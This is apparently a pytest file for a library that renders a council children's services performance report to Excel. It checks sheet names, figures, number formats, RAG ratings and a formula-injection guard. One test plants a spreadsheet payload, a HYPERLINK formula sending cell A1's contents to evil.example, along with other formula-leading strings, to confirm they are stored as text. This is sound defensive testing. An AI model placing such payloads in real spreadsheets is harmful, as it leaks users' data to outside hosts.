"""The Excel report: written through the library from the example store (the seed's figures),
read back with openpyxl, and checked cell by cell.

Expected figures are typed from the seed report (southampton-csc-performance-report-2024-10);
RAG ratings are worked by hand from the definitions' targets and amber rules.
"""

from __future__ import annotations

import io
from datetime import date, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conftest import ROOT

MONTH = date(2024, 10, 1)
# Issue 18: each theme's sheet is named by the theme's name (the seed report's table titles),
# cut to Excel's 31 characters at a word with "…"; the two "Right support at the right time
# – ..." tables, cut alike, show the part that tells them apart.
SHEET = {
    "family_help": "Family Help",
    "family_safeguarding": "Family Safeguarding",
    "localities": "Strong, safe & vibrant…",  # "... localities" is 33 characters
    "birth_families": "Children remain within or…",
    "permanence": "Promote permanence and…",
    "workforce": "Permanent, stable workforce",
    "visiting": "Performance - Visiting",
    "supervision": "Performance - Supervision",
}
THEME_SHEETS = list(SHEET.values())
EH_VISITS = "Percentage of children open to Early Help with a visit in the last 4 weeks"


def report_inputs(store_folder: Path, definitions):
    """What `csc-perf report` computes: results for every stored month up to October 2024
    (and the report's columns), built into the report model through the library."""
    from csc_perf.app.report import build_report, report_months
    from csc_perf.methods.results import compute_results
    from csc_perf.store.core import Store

    observations = Store(store_folder).observations()
    stored = observations.get_column("month").unique().to_list()
    months = sorted({m for m in stored if m <= MONTH} | set(report_months(MONTH)))
    results = compute_results(observations, definitions, months=months, authority="852")
    return build_report(results, definitions, MONTH)


def workbook_for(store_folder: Path, definitions):
    import openpyxl

    from csc_perf.render.xlsx import report_xlsx

    data = report_xlsx(report_inputs(store_folder, definitions))
    assert isinstance(data, bytes) and data[:2] == b"PK"  # a zip: the .xlsx container
    return openpyxl.load_workbook(io.BytesIO(data))


@pytest.fixture(scope="module")
def book(full_store_template, definitions):
    return workbook_for(full_store_template, definitions)


def header(sheet, row: int) -> dict[str, int]:
    """Header text -> column number."""
    return {cell.value: cell.column for cell in sheet[row] if cell.value is not None}


def row_of(sheet, text: str, column: int = 1) -> int:
    rows = [c.row for c in sheet[sheet.cell(1, column).column_letter] if c.value == text]
    assert len(rows) == 1, (text, rows)
    return rows[0]


def cell(sheet, name: str, column: str):
    """The cell of a theme sheet in the indicator's row and the header's column."""
    return sheet.cell(row_of(sheet, name), header(sheet, 2)[column])


def test_sheets_one_per_theme_then_results_and_definitions(book):
    assert book.sheetnames == [*THEME_SHEETS, "Results", "Definitions"]
    assert book[SHEET["family_help"]]["A1"].value == "Right support at the right time – Family Help"
    assert list(header(book[SHEET["visiting"]], 2)) == [
        "Indicator",
        *("Oct-22", "Oct-23", "Nov-23", "Dec-23", "Jan-24", "Feb-24", "Mar-24"),
        *("Apr-24", "May-24", "Jun-24", "Jul-24", "Aug-24", "Sep-24", "Oct-24"),
        *("Target", "RAG", "Direction of travel", "SPC"),
    ]


def test_seed_values_are_numbers_in_the_right_cells(book):
    family_help = book[SHEET["family_help"]]
    contacts = "Number of contacts in the month"
    assert cell(family_help, contacts, "Oct-22").value == 1488
    assert cell(family_help, contacts, "Oct-23").value == 1923
    assert cell(family_help, contacts, "Oct-24").value == 1928
    assert cell(family_help, contacts, "Oct-24").data_type == "n"
    # 588 against 581, lower is better, amber within 5% (610.05): AMBER.
    rate = "Rate of referrals per 10,000 population under 18 years old"
    assert cell(family_help, rate, "Oct-24").value == 588
    assert cell(family_help, rate, "Target").value == 581
    assert cell(family_help, rate, "RAG").value == "AMBER"

    visiting = book[SHEET["visiting"]]
    # Percentages are stored on csc-perf's 0-100 scale: 83% is 83, shown as 83%.
    assert cell(visiting, EH_VISITS, "Oct-23").value == 71
    assert cell(visiting, EH_VISITS, "Oct-24").value == 83
    assert cell(visiting, EH_VISITS, "Target").value == 95
    # 83% against 95%, amber down to 90% (5 points): RED.
    assert cell(visiting, EH_VISITS, "RAG").value == "RED"
    assert cell(visiting, EH_VISITS, "Oct-22").value is None  # no figure: blank, never 0

    # "Number of children in our care" is in three of the seed's tables: on each sheet.
    for name in ("family_safeguarding", "birth_families", "permanence"):
        assert cell(book[SHEET[name]], "Number of children in our care", "Oct-24").value == 468


def test_number_formats_follow_unit_and_decimals(book):
    contacts = cell(book[SHEET["family_help"]], "Number of contacts in the month", "Oct-24")
    assert contacts.number_format == "#,##0"
    visits = cell(book[SHEET["visiting"]], EH_VISITS, "Oct-24")
    assert visits.number_format == '0"%"'
    assert cell(book[SHEET["visiting"]], EH_VISITS, "Target").number_format == '0"%"'
    assert visits.font.b  # the report month stands out


def test_number_format_rules():
    from csc_perf.render.xlsx import number_format

    assert number_format("count", 0) == "#,##0"
    assert number_format("average", 2) == "#,##0.00"
    assert number_format("percent", 0) == '0"%"'
    assert number_format("percent", 1) == '0.0"%"'


def test_rag_is_a_word_with_conditional_formats(book):
    for name in THEME_SHEETS:
        sheet = book[name]
        rag_column = sheet.cell(2, header(sheet, 2)["RAG"]).column_letter
        rules = {}
        for formatting in sheet.conditional_formatting:
            for rule in formatting.rules:
                rules[rule.formula[0]] = (str(formatting.sqref), rule.type, rule.operator)
        last = sheet.max_row
        for word in ('"RED"', '"AMBER"', '"GREEN"', '"BLUE"'):
            sqref, kind, operator = rules[word]
            assert (kind, operator) == ("cellIs", "equal")
            assert sqref.startswith(f"{rag_column}3:{rag_column}")
            assert int(sqref.split(":")[1][len(rag_column) :]) <= last


def test_frozen_header_row_and_indicator_column(book):
    for name in THEME_SHEETS:
        assert book[name].freeze_panes == "B3"
    assert book["Results"].freeze_panes == "A2"


def test_no_cell_is_a_formula(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)


def test_results_sheet_is_a_plain_table_for_pivoting(book, full_store_template, definitions):
    from csc_perf.methods.results import RESULT_COLUMNS

    sheet = book["Results"]
    columns = header(sheet, 1)
    assert list(columns)[: len(RESULT_COLUMNS)] == list(RESULT_COLUMNS)
    assert sheet.auto_filter.ref.startswith("A1:")
    rows = {
        (r[columns["indicator"] - 1], r[columns["month"] - 1]): r
        for r in sheet.iter_rows(min_row=2, values_only=True)
    }
    october = datetime(2024, 10, 1)
    contacts = rows[("contacts", october)]
    assert contacts[columns["value"] - 1] == 1928
    assert contacts[columns["previous_value"] - 1] == 1804  # the seed's Sep-24
    # 468 in October after 473 in September: a negative change stays a number.
    in_care = rows[("children_in_care", october)]
    assert in_care[columns["change_previous"] - 1] == -5
    assert rows[("eh_visits_4_weeks", october)][columns["rag"] - 1] == "red"


def test_definitions_sheet_with_source_note(book):
    sheet = book["Definitions"]
    columns = header(sheet, 1)
    assert list(columns) == [
        "id",
        "name",
        "themes",
        "unit",
        "measure",
        "polarity",
        "decimals",
        "target",
        "amber rule",
        "stretch",
        "description",
    ]
    row = row_of(sheet, "eh_visits_4_weeks")
    values = {name: sheet.cell(row, col).value for name, col in columns.items()}
    assert values["name"] == EH_VISITS
    assert (values["unit"], values["polarity"], values["target"]) == ("percent", "higher", 95)
    assert values["amber rule"] == "within 5 percentage points of the target"
    rate = row_of(sheet, "referrals_rate")
    assert sheet.cell(rate, columns["amber rule"]).value == "within 5% of the target"
    source = row_of(sheet, "Source")
    notes = [sheet.cell(r, 1).value for r in range(source + 1, sheet.max_row + 1)]
    assert notes[0] == "Definitions: indicators.toml."
    assert any("Southampton (852)" in n and "October 2024" in n for n in notes)


def test_highlights_under_each_theme_table(book):
    sheet = book[SHEET["visiting"]]
    start = row_of(sheet, "Highlights")
    assert start > row_of(sheet, EH_VISITS)
    sentences = [sheet.cell(r, 1).value for r in range(start + 1, sheet.max_row + 1)]
    assert 1 <= len(sentences) <= 3 and all(isinstance(s, str) for s in sentences)


def test_hostile_indicator_name_is_text_not_a_formula(full_store_template):
    from csc_perf.definitions.loading import parse_definitions

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    text = (ROOT / "indicators.toml").read_text(encoding="utf-8")
    text = text.replace('name = "Number of contacts in the month"', f"name = '{hostile}'", 1)
    text = text.replace('name = "Permanent, stable workforce"', "name = '@SUM(1+1)'", 1)
    book = workbook_for(full_store_template, parse_definitions(text, source="hostile.toml"))

    # Text as text, exactly as written (issue 12 item 10: no stored apostrophe), marked with
    # Excel's quote prefix so editing the cell keeps it text.
    family_help = book[SHEET["family_help"]]
    found = cell(family_help, hostile, "Oct-24")
    assert found.value == 1928
    name_cell = family_help.cell(found.row, 1)
    assert name_cell.data_type == "s" and name_cell.quotePrefix
    assert name_cell.alignment.wrap_text and name_cell.border.left.style  # its format kept
    # The theme's sheet is named by its (hostile) name now: find it by position.
    workforce = book.worksheets[list(SHEET).index("workforce")]["A1"]
    assert workforce.value == "@SUM(1+1)" and workforce.quotePrefix and workforce.font.b
    results = book["Results"]
    name_column = header(results, 1)["name"]
    names = {
        row[name_column - 1].value: row[name_column - 1]
        for row in results.iter_rows(min_row=2)
        if row[name_column - 1].value
    }
    assert names[hostile].data_type == "s" and names[hostile].quotePrefix
    assert not any(name.startswith("'") for name in names)
    definitions = book["Definitions"].cell(row_of(book["Definitions"], "contacts"), 2)
    assert definitions.value == hostile and definitions.quotePrefix
    # Ordinary text has no quote prefix.
    assert not book["Definitions"].cell(row_of(book["Definitions"], "contacts"), 1).quotePrefix


def test_sheet_names_are_valid_and_unique():
    from csc_perf.render.sheet_names import sheet_name

    used = {"results", "definitions", "history"}
    assert sheet_name("results", used) == "results (2)"
    assert sheet_name("a/b:c", used) == "a_b_c"
    long = "a_very_long_theme_identifier_indeed"
    first, second = sheet_name(long, used), sheet_name(long, used)
    assert len(first) == len(second) == 31 and first != second


# -- the formula-injection guard ------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Number of contacts", "Number of contacts"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_neutralise(text, expected):
    from csc_perf.render.safety import neutralise

    assert neutralise(text) == expected


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_keeps_the_text(text):
    from csc_perf.render.safety import neutralise

    safe = neutralise(text)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert safe in (text, "'" + text)
